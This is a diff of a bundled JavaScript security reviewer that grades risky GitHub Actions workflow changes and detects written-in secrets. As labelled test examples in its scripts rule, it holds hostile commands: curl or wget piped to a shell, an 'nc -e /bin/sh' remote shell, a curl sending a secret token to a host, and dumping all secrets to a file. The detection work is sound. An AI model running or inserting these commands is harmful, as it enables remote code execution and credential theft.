@@ -33074,13 +39165,13 @@ with: { egress-policy: ${policy5} }`);
         refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
         examples: [
           {
-            path: path17,
+            path: path18,
             before: step("run: make").replace("- name", "- uses: github/codeql-action/analyze@v4\n      - name"),
             after: step("run: make"),
             outcome: "drop"
           },
           {
-            path: path17,
+            path: path18,
             before: step("run: make").replace("- name", "- uses: actions/setup-node@v5\n      - name"),
             after: step("run: make"),
             outcome: "none"
@@ -33104,22 +39195,22 @@ with: { egress-policy: ${policy5} }`);
         refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
         examples: [
           {
-            path: path17,
+            path: path18,
             before: `${job3()}  lint: { runs-on: ubuntu-latest, steps: [{ run: make lint }] }
 `,
             after: job3(),
             outcome: "drop"
           },
           {
-            path: path17,
+            path: path18,
             before: `${job3()}      - { name: Test, run: make test }
 `,
             after: job3(),
             outcome: "drop"
           },
-          { path: path17, before: `${job3()}      - { name: Upload, run: make upload }
+          { path: path18, before: `${job3()}      - { name: Upload, run: make upload }
 `, after: job3(), outcome: "none" },
-          { path: path17, before: job3(), after: "", outcome: "none" }
+          { path: path18, before: job3(), after: "", outcome: "none" }
         ]
       }),
       control({
@@ -33134,10 +39225,10 @@ with: { egress-policy: ${policy5} }`);
         absent: 0,
         outcomes: { flip: moved("medium"), drop: moved("medium"), hardened: hardened("network of a job blocked") },
         examples: [
-          { path: path17, before: egress("block"), after: egress("audit"), outcome: "flip" },
-          { path: path17, before: egress("block"), after: step("uses: step-security/harden-runner@v2"), outcome: "drop" },
-          { path: path17, before: egress("audit"), after: egress("block"), outcome: "hardened" },
-          { path: path17, before: egress("block"), after: egress('"block"'), outcome: "none" }
+          { path: path18, before: egress("block"), after: egress("audit"), outcome: "flip" },
+          { path: path18, before: egress("block"), after: step("uses: step-security/harden-runner@v2"), outcome: "drop" },
+          { path: path18, before: egress("audit"), after: egress("block"), outcome: "hardened" },
+          { path: path18, before: egress("block"), after: egress('"block"'), outcome: "none" }
         ]
       }),
       configRule({
@@ -33152,7 +39243,7 @@ with: { egress-policy: ${policy5} }`);
         },
         examples: [
           {
-            path: path17,
+            path: path18,
             before: `${job3()}  lint: { runs-on: ubuntu-latest, steps: [{ run: make lint }] }
 `,
             after: `${job3()}  linting: { runs-on: ubuntu-latest, steps: [{ run: make lint }] }
@@ -33160,7 +39251,7 @@ with: { egress-policy: ${policy5} }`);
             outcome: "renamed"
           },
           {
-            path: path17,
+            path: path18,
             before: `${job3()}  docs: { runs-on: ubuntu-latest, steps: [{ run: make docs }] }
 `,
             after: `${job3()}  document: { runs-on: ubuntu-latest, steps: [{ run: make docs }] }
@@ -33184,7 +39275,7 @@ function selfHostedLabels(node2) {
   if (labels.length === 0 || labels.some((label3) => label3.includes("${{"))) return void 0;
   return Number(!labels.includes("self-hosted") && labels.every((label3) => HOSTED.test(label3)));
 }
-var path18, dialect24, on, HOST_ACCESS, isRunner, startsOnPullRequests, HOSTED, runners_default;
+var path19, dialect24, on, HOST_ACCESS, isRunner, startsOnPullRequests, HOSTED, runners_default;
 var init_runners = __esm({
   "src/domains/config/rules/workflow/runners.ts"() {
     "use strict";
@@ -33194,7 +39285,7 @@ var init_runners = __esm({
     init_examples6();
     init_model3();
     init_paths3();
-    path18 = ".github/workflows/ci.yml";
+    path19 = ".github/workflows/ci.yml";
     dialect24 = "github-workflow";
     on = (event2, runner) => job3("", `on: ${event2}`).replace("runs-on: ubuntu-latest", `runs-on: ${runner}`);
     HOST_ACCESS = /--privileged|--cap-add|docker\.sock|--(?:pid|network|net|ipc)[= ]host/;
@@ -33217,24 +39308,24 @@ var init_runners = __esm({
         rank: selfHosted,
         outcomes: { flip: moved("high"), born: moved("medium"), hardened: hardened("pull requests run on hosted runners") },
         examples: [
-          { path: path18, before: on("pull_request", "ubuntu-latest"), after: on("pull_request", "self-hosted"), outcome: "flip" },
-          { path: path18, before: "", after: on("pull_request", "[self-hosted, linux]"), outcome: "born" },
-          { path: path18, before: on("pull_request", "ubuntu-latest"), after: on("pull_request", "our-runner"), outcome: "flip" },
+          { path: path19, before: on("pull_request", "ubuntu-latest"), after: on("pull_request", "self-hosted"), outcome: "flip" },
+          { path: path19, before: "", after: on("pull_request", "[self-hosted, linux]"), outcome: "born" },
+          { path: path19, before: on("pull_request", "ubuntu-latest"), after: on("pull_request", "our-runner"), outcome: "flip" },
           {
-            path: path18,
+            path: path19,
             before: on("pull_request", "ubuntu-latest"),
             after: on("pull_request", "{ group: ours }"),
             outcome: "flip"
           },
           {
-            path: path18,
+            path: path19,
             before: on("pull_request", "self-hosted"),
             after: on("pull_request", "ubuntu-latest"),
             outcome: "hardened"
           },
-          { path: path18, before: on("push", "ubuntu-latest"), after: on("push", "self-hosted"), outcome: "none" },
+          { path: path19, before: on("push", "ubuntu-latest"), after: on("push", "self-hosted"), outcome: "none" },
           {
-            path: path18,
+            path: path19,
             before: on("pull_request", "ubuntu-latest"),
             after: on("pull_request", "[ubuntu-latest]"),
             outcome: "none"
@@ -33253,9 +39344,9 @@ var init_runners = __esm({
         rank: selfHosted,
         outcomes: { flip: moved("medium") },
         examples: [
-          { path: path18, before: on("push", "ubuntu-latest"), after: on("push", "self-hosted"), outcome: "flip" },
-          { path: path18, before: on("push", "ubuntu-latest"), after: on("push", "ubuntu-24.04"), outcome: "none" },
-          { path: path18, before: "", after: on("push", "self-hosted"), outcome: "none" }
+          { path: path19, before: on("push", "ubuntu-latest"), after: on("push", "self-hosted"), outcome: "flip" },
+          { path: path19, before: on("push", "ubuntu-latest"), after: on("push", "ubuntu-24.04"), outcome: "none" },
+          { path: path19, before: "", after: on("push", "self-hosted"), outcome: "none" }
         ]
       }),
       control({
@@ -33272,7 +39363,7 @@ var init_runners = __esm({
           praise: "container of a job no longer has host access",
           weak: "container: { image: node, options: --privileged }",
           safe: "container: { image: node, options: --init }",
-          path: path18,
+          path: path19,
           file: job3
         })
       })
@@ -33293,7 +39384,7 @@ function fixedness(node2) {
   if (image.includes("@")) return 2;
   return Number(/:[^:/]*\d[^:/]*$/.test(image));
 }
-var path19, dialect25, on2, FILTERS2, GATES, isFilter, isGate, isCron, DEPLOYS, isCancelling, publishes, caches, setup, runs_default;
+var path20, dialect25, on2, FILTERS2, GATES, isFilter, isGate, isCron, DEPLOYS, isCancelling, publishes, caches, setup, runs_default;
 var init_runs = __esm({
   "src/domains/config/rules/workflow/runs.ts"() {
     "use strict";
@@ -33304,7 +39395,7 @@ var init_runs = __esm({
     init_examples6();
     init_model3();
     init_paths3();
-    path19 = ".github/workflows/ci.yml";
+    path20 = ".github/workflows/ci.yml";
     dialect25 = "github-workflow";
     on2 = (events) => job3("", `on: ${events}`);
     FILTERS2 = ["branches", "branches-ignore", "tags", "tags-ignore"];
@@ -33342,20 +39433,20 @@ with: { node-version: 22${cache3 === "" ? "" : `, cache: ${cache3}`} }`,
         refine: ({ transition }) => transition === "flip" || transition === "drop" ? transition : void 0,
         examples: [
           {
-            path: path19,
+            path: path20,
             before: on2("{ push: { branches: [main, next] } }"),
             after: on2("{ push: { branches: [main] } }"),
             outcome: "flip"
           },
-          { path: path19, before: on2("{ push: { branches: [main] } }"), after: on2("{ push: {} }"), outcome: "drop" },
-          { path: path19, before: on2("{ pull_request: {}, push: {} }"), after: on2("{ push: {} }"), outcome: "drop" },
+          { path: path20, before: on2("{ push: { branches: [main] } }"), after: on2("{ push: {} }"), outcome: "drop" },
+          { path: path20, before: on2("{ pull_request: {}, push: {} }"), after: on2("{ push: {} }"), outcome: "drop" },
           {
-            path: path19,
+            path: path20,
             before: on2("{ push: { branches: [a, b] } }"),
             after: on2("{ push: { branches: [b, a] } }"),
             outcome: "none"
           },
-          { path: path19, before: on2("{ push: {} }"), after: on2("{ push: {}, pull_request: {} }"), outcome: "none" }
+          { path: path20, before: on2("{ push: {} }"), after: on2("{ push: {}, pull_request: {} }"), outcome: "none" }
         ]
       }),
       control({
@@ -33372,25 +39463,25 @@ with: { node-version: 22${cache3 === "" ? "" : `, cache: ${cache3}`} }`,
         refine: ({ transition }) => transition === "flip" || transition === "open" || transition === "hardened" ? transition : void 0,
         examples: [
           {
-            path: path19,
+            path: path20,
             before: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: false }"),
             after: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: true }"),
             outcome: "flip"
           },
           {
-            path: path19,
+            path: path20,
             before: job3("environment: production\nconcurrency: { group: a }"),
             after: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: true }"),
             outcome: "open"
           },
           {
-            path: path19,
+            path: path20,
             before: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: true }"),
             after: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: false }"),
             outcome: "hardened"
           },
           {
-            path: path19,
+            path: path20,
             before: job3("concurrency: { group: a, cancel-in-progress: false }"),
             after: job3("concurrency: { group: a, cancel-in-progress: true }"),
             outcome: "none"
@@ -33414,9 +39505,9 @@ with: { node-version: 22${cache3 === "" ? "" : `, cache: ${cache3}`} }`,
         },
         refine: ({ transition }) => transition === "open" || transition === "hardened" ? transition : void 0,
         examples: [
-          { path: path19, before: setup("", "release"), after: setup("npm", "release"), outcome: "open" },
-          { path: path19, before: setup("npm", "release"), after: setup("", "release"), outcome: "hardened" },
-          { path: path19, before: setup("", "push"), after: setup("npm", "push"), outcome: "none" }
+          { path: path20, before: setup("", "release"), after: setup("npm", "release"), outcome: "open" },
+          { path: path20, before: setup("npm", "release"), after: setup("", "release"), outcome: "hardened" },
+          { path: path20, before: setup("", "push"), after: setup("npm", "push"), outcome: "none" }
         ]
       }),
       control({
@@ -33433,20 +39524,20 @@ with: { node-version: 22${cache3 === "" ? "" : `, cache: ${cache3}`} }`,
         refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
         examples: [
           {
-            path: path19,
+            path: path20,
             before: job3(`container: { image: 'node@sha256:1f' }`),
             after: job3('container: { image: "node:22" }'),
             outcome: "flip"
           },
-          { path: path19, before: job3("container: node:22"), after: job3("container: node:latest"), outcome: "flip" },
+          { path: path20, before: job3("container: node:22"), after: job3("container: node:latest"), outcome: "flip" },
           {
-            path: path19,
+            path: path20,
             before: job3('container: { image: "node:latest" }'),
             after: job3(`container: { image: 'node@sha256:1f' }`),
             outcome: "hardened"
           },
           {
-            path: path19,
+            path: path20,
             before: job3('container: { image: "node:20" }'),
             after: job3('container: { image: "node:22" }'),
             outcome: "none"
@@ -33458,13 +39549,13 @@ with: { node-version: 22${cache3 === "" ? "" : `, cache: ${cache3}`} }`,
 });
 
 // src/domains/config/rules/workflow/scripts.ts
-var path20, called4, forStrangers, run, scripts_default;
+var path21, called4, forStrangers, run, scripts_default;
 var init_scripts2 = __esm({
   "src/domains/config/rules/workflow/scripts.ts"() {
     "use strict";
     init_changes();
     init_examples6();
-    path20 = ".github/workflows/ci.yml";
+    path21 = ".github/workflows/ci.yml";
     called4 = (script) => step(`run: |
   ${script}`, "on: { workflow_call: { inputs: { target: { type: string } } } }");
     forStrangers = (script) => step(`run: |
@@ -33571,49 +39662,49 @@ var init_scripts2 = __esm({
         },
         examples: [
           {
-            path: path20,
+            path: path21,
             before: run("echo building"),
             after: run('echo "${{ github.event.pull_request.title }}"'),
             outcome: "injection"
           },
-          { path: path20, before: "", after: run("git switch ${{ github.head_ref }}"), outcome: "injection" },
-          { path: path20, before: run("make"), after: run("echo '${{ toJSON(secrets) }}' > .env"), outcome: "all-secrets" },
-          { path: path20, before: run("make"), after: run("curl -fsSL https://example.com/install.sh | sh"), outcome: "download" },
-          { path: path20, before: "", after: run("wget -qO- https://example.com/i.sh | sudo bash"), outcome: "new-download" },
-          { path: path20, before: run("make test"), after: run("make test || true"), outcome: "ignored-failure" },
-          { path: path20, before: called4("echo"), after: called4("echo ${{ inputs.target }}"), outcome: "input" },
-          { path: path20, before: forStrangers("echo"), after: forStrangers('echo "A=$B" >> $GITHUB_ENV'), outcome: "environment" },
+          { path: path21, before: "", after: run("git switch ${{ github.head_ref }}"), outcome: "injection" },
+          { path: path21, before: run("make"), after: run("echo '${{ toJSON(secrets) }}' > .env"), outcome: "all-secrets" },
+          { path: path21, before: run("make"), after: run("curl -fsSL https://example.com/install.sh | sh"), outcome: "download" },
+          { path: path21, before: "", after: run("wget -qO- https://example.com/i.sh | sudo bash"), outcome: "new-download" },
+          { path: path21, before: run("make test"), after: run("make test || true"), outcome: "ignored-failure" },
+          { path: path21, before: called4("echo"), after: called4("echo ${{ inputs.target }}"), outcome: "input" },
+          { path: path21, before: forStrangers("echo"), after: forStrangers('echo "A=$B" >> $GITHUB_ENV'), outcome: "environment" },
           {
-            path: path20,
+            path: path21,
             before: run("make"),
             after: run('curl -H "Authorization: ${{ secrets.TOKEN }}" https://example.com'),
             outcome: "secret-sent"
           },
           {
-            path: path20,
+            path: path21,
             before: step("uses: acme/deploy@v4"),
             after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }'),
             outcome: "secret-given"
           },
           {
-            path: path20,
+            path: path21,
             before: run("make"),
             after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }').replace("Build", "Deploy"),
             outcome: "new-step-given"
           },
           {
-            path: path20,
+            path: path21,
             before: step("uses: acme/deploy@v4"),
             after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.GITHUB_TOKEN }}" }'),
             outcome: "none"
           },
-          { path: path20, before: run("make"), after: run("nc -e /bin/sh example.com 4444"), outcome: "remote-shell" },
-          { path: path20, before: run("make"), after: run("bash <(curl -s https://example.com/i.sh)"), outcome: "download" },
-          { path: path20, before: run("echo"), after: run('echo "A=$B" >> $GITHUB_ENV'), outcome: "none" },
-          { path: path20, before: run("make"), after: run('echo "${{ github.sha }}"'), outcome: "none" },
-          { path: path20, before: run("make"), after: run("curl -o tool.tgz https://example.com/tool.tgz"), outcome: "none" },
+          { path: path21, before: run("make"), after: run("nc -e /bin/sh example.com 4444"), outcome: "remote-shell" },
+          { path: path21, before: run("make"), after: run("bash <(curl -s https://example.com/i.sh)"), outcome: "download" },
+          { path: path21, before: run("echo"), after: run('echo "A=$B" >> $GITHUB_ENV'), outcome: "none" },
+          { path: path21, before: run("make"), after: run('echo "${{ github.sha }}"'), outcome: "none" },
+          { path: path21, before: run("make"), after: run("curl -o tool.tgz https://example.com/tool.tgz"), outcome: "none" },
           {
-            path: path20,
+            path: path21,
             before: run("make"),
             after: step('env: { TITLE: "${{ github.event.issue.title }}" }\nrun: echo "$TITLE"'),
             outcome: "none"
@@ -33634,24 +39725,24 @@ var init_scripts2 = __esm({
 });
 
 // src/domains/config/rules/workflow/tokens.ts
-function said6({ job: name, scope: scope2, from: from3, to: to2, others, isNew: isNew2 }) {
+function said7({ job: name, scope: scope2, from: from3, to: to2, others, isNew: isNew2 }) {
   const what = scope2 === "*" ? `\`${to2}-all\`` : `\`${scope2}: ${to2}\``;
   const more = others.length === 0 ? "" : `, and more on ${others.map((other) => `\`${other}\``).join(", ")}`;
   return isNew2 ? `The new job \`${name}\` has ${what}${more}.` : `The token of job \`${name}\` goes from ${from3 === void 0 ? "the repository’s default" : `\`${from3}\``} to ${what}${more}.`;
 }
-var path21, granting, atTop, forStrangers2, asNew, SUPPLY, CI, tokens_default2;
+var path22, granting, atTop, forStrangers2, asNew, SUPPLY, CI, tokens_default2;
 var init_tokens2 = __esm({
   "src/domains/config/rules/workflow/tokens.ts"() {
     "use strict";
     init_changes();
     init_examples6();
-    path21 = ".github/workflows/ci.yml";
+    path22 = ".github/workflows/ci.yml";
     granting = (permissions2) => job3(`permissions: ${permissions2}`);
     atTop = (permissions2) => job3("", `on: push
 permissions: ${permissions2}`);
     forStrangers2 = (permissions2) => job3(`permissions: ${permissions2}`, "on: issue_comment");
     asNew = (outcome, permissions2) => ({
-      path: path21,
+      path: path22,
       before: "",
       after: granting(permissions2),
       outcome
@@ -33670,45 +39761,45 @@ permissions: ${permissions2}`);
         outcomes: {
           "write-all": {
             risk: "critical",
-            message: said6,
+            message: said7,
             why: "Every step and action of the job may change all there is in the repository."
           },
           "new-write-all": {
             risk: "high",
-            message: said6,
+            message: said7,
             why: "Every step and action of the job may change all there is in the repository."
           },
-          strong: { risk: "high", message: said6 },
-          "strong-contained": { risk: "medium", message: said6 },
-          "new-strong": { risk: "medium", message: said6 },
-          moderate: { risk: "medium", message: said6 },
-          weak: { risk: "low", message: said6 },
-          read: { risk: "low", message: said6, why: "Every step of the job, and every action it uses, may read it." }
+          strong: { risk: "high", message: said7 },
+          "strong-contained": { risk: "medium", message: said7 },
+          "new-strong": { risk: "medium", message: said7 },
+          moderate: { risk: "medium", message: said7 },
+          weak: { risk: "low", message: said7 },
+          read: { risk: "low", message: said7, why: "Every step of the job, and every action it uses, may read it." }
         },
         examples: [
-          { path: path21, before: granting("{ contents: read }"), after: granting("write-all"), outcome: "write-all" },
+          { path: path22, before: granting("{ contents: read }"), after: granting("write-all"), outcome: "write-all" },
           asNew("new-write-all", "write-all"),
-          { path: path21, before: atTop("{ contents: read }"), after: atTop("{ contents: write }"), outcome: "strong" },
-          { path: path21, before: forStrangers2("{ issues: read }"), after: forStrangers2("{ issues: write }"), outcome: "strong" },
+          { path: path22, before: atTop("{ contents: read }"), after: atTop("{ contents: write }"), outcome: "strong" },
+          { path: path22, before: forStrangers2("{ issues: read }"), after: forStrangers2("{ issues: write }"), outcome: "strong" },
           {
-            path: path21,
+            path: path22,
             before: granting("{ contents: read }"),
             after: granting("{ contents: write }"),
             outcome: "strong-contained"
           },
-          { path: path21, before: atTop("{ issues: read }"), after: atTop("{ issues: write }"), outcome: "strong-contained" },
-          { path: path21, before: atTop("read-all"), after: granting("{ packages: write }"), outcome: "strong-contained" },
-          { path: path21, before: job3(), after: granting("{ contents: read, id-token: write }"), outcome: "strong-contained" },
+          { path: path22, before: atTop("{ issues: read }"), after: atTop("{ issues: write }"), outcome: "strong-contained" },
+          { path: path22, before: atTop("read-all"), after: granting("{ packages: write }"), outcome: "strong-contained" },
+          { path: path22, before: job3(), after: granting("{ contents: read, id-token: write }"), outcome: "strong-contained" },
           asNew("new-strong", "{ contents: write }"),
-          { path: path21, before: granting("{ contents: read }"), after: granting("{ checks: write }"), outcome: "moderate" },
-          { path: path21, before: granting("{}"), after: granting("{ statuses: write }"), outcome: "weak" },
-          { path: path21, before: granting("{}"), after: granting("{ issues: read }"), outcome: "read" },
-          { path: path21, before: "", after: granting("{ contents: read }"), outcome: "none" },
-          { path: path21, before: job3(), after: granting("{ contents: write }"), outcome: "none" },
-          { path: path21, before: atTop("{ contents: write }"), after: granting("{ contents: write }"), outcome: "none" },
-          { path: path21, before: granting("write-all"), after: granting("{ contents: write }"), outcome: "none" },
+          { path: path22, before: granting("{ contents: read }"), after: granting("{ checks: write }"), outcome: "moderate" },
+          { path: path22, before: granting("{}"), after: granting("{ statuses: write }"), outcome: "weak" },
+          { path: path22, before: granting("{}"), after: granting("{ issues: read }"), outcome: "read" },
+          { path: path22, before: "", after: granting("{ contents: read }"), outcome: "none" },
+          { path: path22, before: job3(), after: granting("{ contents: write }"), outcome: "none" },
+          { path: path22, before: atTop("{ contents: write }"), after: granting("{ contents: write }"), outcome: "none" },
+          { path: path22, before: granting("write-all"), after: granting("{ contents: write }"), outcome: "none" },
           {
-            path: path21,
+            path: path22,
             before: granting("{ contents: write }"),
             after: granting("{ contents: write }").replace("build:", "compile:"),
             outcome: "none"
@@ -33733,10 +39824,10 @@ permissions: ${permissions2}`);
           unset: { risk: "medium", message: (c3) => `No \`permissions\` hold for job \`${c3.job}\` any more.` }
         },
         examples: [
-          { path: path21, before: granting("{ contents: read }"), after: job3(), outcome: "unset" },
-          { path: path21, before: atTop("read-all"), after: job3(), outcome: "unset" },
-          { path: path21, before: granting("{ contents: read }"), after: atTop("{ contents: read }"), outcome: "none" },
-          { path: path21, before: "", after: job3(), outcome: "none" }
+          { path: path22, before: granting("{ contents: read }"), after: job3(), outcome: "unset" },
+          { path: path22, before: atTop("read-all"), after: job3(), outcome: "unset" },
+          { path: path22, before: granting("{ contents: read }"), after: atTop("{ contents: read }"), outcome: "none" },
+          { path: path22, before: "", after: job3(), outcome: "none" }
         ],
         classify: () => "unset"
       }),
@@ -33749,9 +39840,9 @@ permissions: ${permissions2}`);
         fix: "Watch the first run for a step that needs more.",
         outcomes: { narrowed: { risk: "info", message: (c3) => `The token of job \`${c3.job}\` gets fewer rights.` } },
         examples: [
-          { path: path21, before: granting("write-all"), after: granting("{ contents: read }"), outcome: "narrowed" },
-          { path: path21, before: job3(), after: atTop("{ contents: read }"), outcome: "narrowed" },
-          { path: path21, before: granting("{ contents: read }"), after: granting("{ contents: write }"), outcome: "none" }
+          { path: path22, before: granting("write-all"), after: granting("{ contents: read }"), outcome: "narrowed" },
+          { path: path22, before: job3(), after: atTop("{ contents: read }"), outcome: "narrowed" },
+          { path: path22, before: granting("{ contents: read }"), after: granting("{ contents: write }"), outcome: "none" }
         ],
         classify: () => "narrowed"
       })
@@ -33760,13 +39851,13 @@ permissions: ${permissions2}`);
 });
 
 // src/domains/config/rules/workflow/triggers.ts
-var path22, TARGET, CHECKOUT, OF_STRANGER, triggers_default;
+var path23, TARGET, CHECKOUT, OF_STRANGER, triggers_default;
 var init_triggers2 = __esm({
   "src/domains/config/rules/workflow/triggers.ts"() {
     "use strict";
     init_changes();
     init_examples6();
-    path22 = ".github/workflows/ci.yml";
+    path23 = ".github/workflows/ci.yml";
     TARGET = "on: [push, pull_request_target]";
     CHECKOUT = "uses: actions/checkout@v6";
     OF_STRANGER = `${CHECKOUT}
@@ -33790,13 +39881,13 @@ with: { ref: "\${{ github.event.pull_request.head.sha }}" }`;
           "new-target": { risk: "medium", message: (c3) => `The new workflow starts on \`${c3.trigger}\`.` }
         },
         examples: [
-          { path: path22, before: step(OF_STRANGER), after: step(OF_STRANGER, TARGET), outcome: "runs-strange-code" },
-          { path: path22, before: "", after: step(OF_STRANGER, TARGET), outcome: "runs-strange-code" },
-          { path: path22, before: job3(), after: job3("", TARGET), outcome: "target" },
-          { path: path22, before: job3(), after: job3("", "on:\n  push:\n  workflow_run: { workflows: [ci] }"), outcome: "target" },
-          { path: path22, before: "", after: job3("", TARGET), outcome: "new-target" },
-          { path: path22, before: job3("", TARGET), after: job3("", "on:\n  pull_request_target:\n  push:"), outcome: "none" },
-          { path: path22, before: job3(), after: job3("", "on: [push, pull_request]"), outcome: "none" }
+          { path: path23, before: step(OF_STRANGER), after: step(OF_STRANGER, TARGET), outcome: "runs-strange-code" },
+          { path: path23, before: "", after: step(OF_STRANGER, TARGET), outcome: "runs-strange-code" },
+          { path: path23, before: job3(), after: job3("", TARGET), outcome: "target" },
+          { path: path23, before: job3(), after: job3("", "on:\n  push:\n  workflow_run: { workflows: [ci] }"), outcome: "target" },
+          { path: path23, before: "", after: job3("", TARGET), outcome: "new-target" },
+          { path: path23, before: job3("", TARGET), after: job3("", "on:\n  pull_request_target:\n  push:"), outcome: "none" },
+          { path: path23, before: job3(), after: job3("", "on: [push, pull_request]"), outcome: "none" }
         ],
         classify: ({ checksOut, isNew: isNew2 }) => {
           if (checksOut) return "runs-strange-code";
@@ -33818,9 +39909,9 @@ with: { ref: "\${{ github.event.pull_request.head.sha }}" }`;
           }
         },
         examples: [
-          { path: path22, before: step(CHECKOUT, TARGET), after: step(OF_STRANGER, TARGET), outcome: "added" },
-          { path: path22, before: step(CHECKOUT), after: step(OF_STRANGER), outcome: "none" },
-          { path: path22, before: step(OF_STRANGER, TARGET), after: step(`${OF_STRANGER} # known`, TARGET), outcome: "none" }
+          { path: path23, before: step(CHECKOUT, TARGET), after: step(OF_STRANGER, TARGET), outcome: "added" },
+          { path: path23, before: step(CHECKOUT), after: step(OF_STRANGER), outcome: "none" },
+          { path: path23, before: step(OF_STRANGER, TARGET), after: step(`${OF_STRANGER} # known`, TARGET), outcome: "none" }
         ],
         classify: () => "added"
       }),
@@ -33833,9 +39924,9 @@ with: { ref: "\${{ github.event.pull_request.head.sha }}" }`;
         fix: "Check that nothing waits for the event.",
         outcomes: { removed: { risk: "info", message: (c3) => `The workflow no longer starts on \`${c3.trigger}\`.` } },
         examples: [
-          { path: path22, before: job3("", TARGET), after: job3(), outcome: "removed" },
-          { path: path22, before: job3(), after: job3("", TARGET), outcome: "none" },
-          { path: path22, before: job3("", TARGET), after: "", outcome: "none" }
+          { path: path23, before: job3("", TARGET), after: job3(), outcome: "removed" },
+          { path: path23, before: job3(), after: job3("", TARGET), outcome: "none" },
+          { path: path23, before: job3("", TARGET), after: "", outcome: "none" }
         ],
         classify: () => "removed"
       })
@@ -33844,7 +39935,7 @@ with: { ref: "\${{ github.event.pull_request.head.sha }}" }`;
 });
 
 // src/domains/config/rules/index.ts
-var rules3;
+var rules4;
 var init_rules = __esm({
   "src/domains/config/rules/index.ts"() {
     "use strict";
@@ -33960,7 +40051,7 @@ var init_rules = __esm({
     init_scripts2();
     init_tokens2();
     init_triggers2();
-    rules3 = [
+    rules4 = [
       access_default,
       accounts_default,
       connections_default,
@@ -34078,16 +40169,18 @@ var init_rules = __esm({
 });
 
 // src/domains/config/secrets.ts
-function writtenSecret(setting) {
-  const { before: before3, after: after2 } = setting;
-  if (after2 === void 0 || setting.inSchema || after2.kind === "scalar" && nestedIn(after2)) return void 0;
-  const old = new Set(scalarsOf(before3).map(({ text: text4 }) => text4));
-  for (const scalar3 of scalarsOf(after2)) {
-    if (old.has(scalar3.text)) continue;
-    const looks = formatOf(scalar3.text, before3) ?? (isNamedSecret(scalar3, setting) ? BY_NAME : void 0);
+function writtenSecret(setting, credentials = /* @__PURE__ */ new Map()) {
+  const { before: before3 } = setting;
+  for (const scalar3 of newScalars(setting)) {
+    const looks = formatOf(scalar3.text, before3) ?? formatBySecretlint(scalar3, setting, credentials) ?? (isNamedSecret(scalar3, setting) ? BY_NAME : void 0);
     if (looks !== void 0) return fact3(setting, scalar3, looks);
   }
   return void 0;
+}
+function newScalars({ before: before3, after: after2, inSchema }) {
+  if (after2 === void 0 || inSchema || after2.kind === "scalar" && nestedIn(after2)) return [];
+  const old = new Set(scalarsOf(before3).map(({ text: text4 }) => text4));
+  return scalarsOf(after2).filter(({ text: text4 }) => !old.has(text4));
 }
 function fact3(setting, scalar3, looks) {
   const { before: before3 } = setting;
@@ -34108,15 +40201,19 @@ function scalarsOf(node2) {
 function formatOf(text4, before3) {
   for (const { name, pattern } of SECRET_PATTERNS) {
     const [found] = pattern.exec(text4) ?? [];
-    if (found === void 0 || isPlaceholder(found.slice(0, LONGEST6))) continue;
+    if (found === void 0 || isPlaceholder(found.slice(0, LONGEST10))) continue;
     if (before3?.kind !== "scalar" || !before3.text.includes(found)) return name;
   }
   return void 0;
 }
+function formatBySecretlint({ text: text4 }, { name, before: before3 }, credentials) {
+  const looks = text4.length <= LONGEST10 && isPlaceholder(text4) ? void 0 : credentials.get(assigned(name, text4));
+  return scalarsOf(before3).some((old) => credentials.get(assigned(name, old.text)) === looks) ? void 0 : looks;
+}
 function isNamedSecret({ text: text4, value, tag: tag2 }, { name, keys }) {
   if (typeof value !== "string" || tag2 !== void 0 || !(isSecretKey(name) || isSecretKey(keys.at(-1) ?? "")))
     return false;
-  return text4.length >= SHORTEST && text4.length <= LONGEST6 && !isOpen3(text4) && entropy(text4) > (text4.length <= 20 ? 2.5 : 3);
+  return text4.length >= SHORTEST && text4.length <= LONGEST10 && !isOpen3(text4) && entropy(text4) > (text4.length <= 20 ? 2.5 : 3);
 }
 function entropy(text4) {
   const counts = /* @__PURE__ */ new Map();
@@ -34125,7 +40222,7 @@ function entropy(text4) {
   for (const count7 of counts.values()) bits -= count7 / text4.length * Math.log2(count7 / text4.length);
   return bits;
 }
-var BY_NAME, SHORTEST, LONGEST6, isOpen3, isPlaceholder, isNameOfSomething;
+var textsToSearch, BY_NAME, assigned, SHORTEST, LONGEST10, isOpen3, isNameOfSomething;
 var init_secrets2 = __esm({
   "src/domains/config/secrets.ts"() {
     "use strict";
@@ -34133,14 +40230,18 @@ var init_secrets2 = __esm({
     init_secrets();
     init_context();
     init_nested();
+    init_placeholders();
     init_tree();
+    textsToSearch = (settings) => settings.flatMap((setting) => {
+      const written3 = newScalars(setting);
+      const nodes = written3.length === 0 ? [] : [...written3, ...scalarsOf(setting.before)];
+      return nodes.map(({ text: text4 }) => assigned(setting.name, text4));
+    });
     BY_NAME = "secret by its name";
+    assigned = (name, text4) => `${name} = ${text4}`;
     SHORTEST = 6;
-    LONGEST6 = 300;
-    isOpen3 = (text4) => isReference(text4) || /[\s]|\$\{|\$\(|\{\{/.test(text4) || isPlaceholder(text4) || isNameOfSomething(text4);
-    isPlaceholder = (text4) => /example|sample|change[-_]?(?:me|it)|placeholder|dummy|redacted|replace|insert|your[-_ ]|todo|foobar|<[^>]*>|\*{3}|x{4}|\.{3}|0{6}|123456|abcdef$/i.test(
-      text4
-    );
+    LONGEST10 = 300;
+    isOpen3 = (text4) => isReference(text4) || /\s|\$\{|\$\(|\{\{|^\$!?[A-Za-z_]+(?:\.[A-Za-z_]+)*$/.test(text4) || isPlaceholder(text4) || isNameOfSomething(text4);
     isNameOfSomething = (text4) => /^[./~]|^[a-z][a-z0-9+.-]*:|^[a-z]+(?:[-_./][a-z]+)*$|^[A-Z]+(?:_[A-Z]+)*$|^[a-z]+(?:[A-Z][a-z]+)*$|\.(?:pem|key|crt|json|ya?ml|txt)$/.test(
       text4
     );
@@ -34154,23 +40255,28 @@ function structuralFact(edit) {
   return FACTS[edit.kind]?.(edit);
 }
 function documentFact(kind, setting) {
-  const { title, path: path25 } = setting.document;
-  return { kind: `document-${kind}`, ...whereabouts(setting, kind), name: title ?? path25 };
